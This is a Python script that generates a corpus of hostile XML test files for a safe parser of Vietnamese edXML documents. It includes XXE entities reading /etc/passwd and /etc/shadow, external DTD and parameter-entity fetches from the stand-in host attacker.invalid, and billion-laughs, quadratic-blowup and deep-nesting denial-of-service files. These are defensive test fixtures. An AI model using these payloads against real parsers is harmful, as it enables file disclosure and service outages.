"""Write the hostile-XML corpus: every way a file can attack or break the safe parser.

Small files are committed next to this script (``python make_corpus.py`` rewrites them
identically); the large ones (quadratic blow-up, deep nesting, huge text, long prolog) are
generated on demand into another folder by ``python make_corpus.py --large DIR``.
"""

from __future__ import annotations

import argparse
import codecs
from pathlib import Path

_VIET = "Ủy ban nhân dân tỉnh Quảng Nam"

SMALL: dict[str, bytes] = {
    "xxe_local_file.xml": (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE edXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
        b"<edXML>&xxe;</edXML>\n"
    ),
    "external_dtd.xml": (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE edXML SYSTEM "http://attacker.invalid/edxml.dtd">\n'
        b"<edXML/>\n"
    ),
    "parameter_entity_url.xml": (
        b'<?xml version="1.0"?>\n'
        b"<!DOCTYPE edXML [\n"
        b'  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n'
        b"  %remote;\n"
        b"]>\n"
        b"<edXML/>\n"
    ),
    "billion_laughs.xml": (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
        + b"".join(
            f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'.encode()
            for n in range(1, 10)
        )
        + b"]>\n<lolz>&lol9;</lolz>\n"
    ),
    "truncated.xml": (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<edXML>\n  <edXMLEnvelope>\n'
        b"    <From>000.00.00.H47</From>\n    <Subject>B\xc3\xa1o c\xc3\xa1o"
    ),
    "empty.xml": b"",
    "not_xml.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06",
    "utf16_bom.xml": (
        codecs.BOM_UTF16_LE
        + f'<?xml version="1.0" encoding="UTF-16"?>\n<Ten>{_VIET}</Ten>\n'.encode("utf-16-le")
    ),
    "utf16le_no_bom.xml": (
        f'<?xml version="1.0" encoding="UTF-16"?>\n<Ten>{_VIET}</Ten>\n'.encode("utf-16-le")
    ),
    "utf16be_no_bom_no_declaration.xml": f"<Ten>{_VIET}</Ten>\n".encode("utf-16-be"),
    "encoding_lie_declares_utf8.xml": (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<Ten>'
        + "Thành phố Đà Nẵng".encode("cp1258", errors="replace")
        + b"</Ten>\n"
    ),
    "encoding_lie_declares_latin1.xml": (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<Ten>' + _VIET.encode() + b"</Ten>\n"
    ),
    "encoding_lie_declares_utf16.xml": (
        b'<?xml version="1.0" encoding="UTF-16"?>\n<Ten>' + _VIET.encode() + b"</Ten>\n"
    ),
    "encoding_utf7.xml": b'<?xml version="1.0" encoding="UTF-7"?>\n<Ten>+AEEAQgBD-</Ten>\n',
    "encoding_ebcdic.xml": '<?xml version="1.0" encoding="IBM037"?>\n<Ten>x</Ten>\n'.encode(
        "cp037"
    ),
}


def large() -> dict[str, bytes]:
    """The big attacks, built in memory (each a few hundred kB to 11 MB)."""
    blob = b"A" * 50_000
    return {
        "quadratic_blowup.xml": (
            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "'
            + blob
            + b'">]>\n<r>'
            + b"&a;" * 50_000
            + b"</r>\n"
        ),
        "deep_nesting.xml": b"<a>" * 100_000 + b"</a>" * 100_000,
        "huge_text_node.xml": b"<Attachment>" + b"QUJD" * 2_750_000 + b"</Attachment>\n",
        "long_prolog.xml": (
            b'<?xml version="1.0"?>\n<!--' + b"-" * 1_100_000 + b"-->\n"
            b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n<r>&x;</r>\n'
        ),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--large", type=Path, metavar="DIR", help="write the large files here")
    args = parser.parse_args()
    if args.large is not None:
        args.large.mkdir(parents=True, exist_ok=True)
        for name, data in large().items():
            (args.large / name).write_bytes(data)
        return
    here = Path(__file__).parent
    for name, data in SMALL.items():
        (here / name).write_bytes(data)


if __name__ == "__main__":
    main()
